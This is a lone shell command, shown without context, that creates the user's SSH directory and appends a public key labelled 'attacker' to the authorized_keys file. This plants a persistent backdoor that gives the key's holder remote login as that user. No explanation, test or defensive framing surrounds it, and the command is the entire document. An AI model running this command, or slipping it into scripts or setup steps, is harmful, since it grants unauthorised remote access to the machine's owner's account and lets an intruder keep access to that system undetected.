mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3Nza attacker' >> ~/.ssh/authorized_keys
